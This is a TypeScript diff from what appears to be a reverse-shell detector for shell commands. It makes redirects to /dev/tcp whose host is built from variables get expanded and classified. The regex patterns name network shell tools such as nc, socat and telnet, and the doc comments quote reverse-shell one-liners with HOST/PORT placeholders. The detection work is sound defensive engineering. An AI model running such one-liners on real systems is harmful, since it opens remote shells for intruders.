@@ -1,5 +1,6 @@
 import { classifyHost } from '../classify-host.js';
 import type { Reading } from '../reading.js';
+import type { Value } from '../value.js';
 import type { Command, Pipeline, Word } from './syntax.js';
 
 const SHELL_NAME = /(?:^|\/)(?:ba|z|da|k|a|tc|c|fi)?sh$|(?:^|\/)(?:python[\d.]*|cmd|powershell|pwsh)(?:\.exe)?$/u;
@@ -7,9 +8,9 @@ const PEER_NAME = /(?:^|\/)(?:nc|ncat|netcat|nc\.traditional|telnet|socat|openss
 const DEVICE = /^\/dev\/(?:tcp|udp)\/([^/\s]{1,200})\/[^/\s]{1,20}$/u;
 
 /** A shell with its input or output on bash's network device: `bash -i >& /dev/tcp/HOST/PORT 0>&1`, `exec 5<>/dev/tcp/…; sh <&5 >&5`. */
-export function noteShellOnDevice(command: Command, reading: Reading): void {
+export function noteShellOnDevice(command: Command, reading: Reading, expand: (word: Word) => Value): void {
   const name = plainText(command.words[0]);
-  const device = command.redirects.map((redirect) => DEVICE.exec(plainText(redirect.target))).find((match) => match !== null);
+  const device = command.redirects.map(({ target }) => DEVICE.exec(deviceText(target, expand))).find((match) => match !== null);
   if (device && (name === 'exec' || name === '')) reading.files.set('*device*', { origins: [], text: device[0] });
   const opened = reading.files.get('*device*')?.text;
   const duplicates = command.redirects.some(
@@ -40,6 +41,15 @@ export function noteShellOnDevice(command: Command, reading: Reading): void {
     target,
     host: classifyHost(host).class,
   });
+}
+
+/** The network device that a word names, its host put together of variables or not; one that only the user gives stays open. */
+function deviceText(target: Word, expand: (word: Word) => Value): string {
+  const [first] = target.parts;
+  const written = first?.kind === 'text' ? first.text : '';
+  if (!written.startsWith('/dev/')) return plainText(target);
+  const text = target.parts.length === 1 ? written : expand(target).text;
+  return classifyHost(DEVICE.exec(text)?.[1] ?? '').class === 'variable' ? '' : text;
 }
 
 /** A shell in a pipe to a connection: `cat fifo | sh -i | nc HOST PORT > fifo`, `telnet HOST 1 | sh | telnet HOST 2`. */
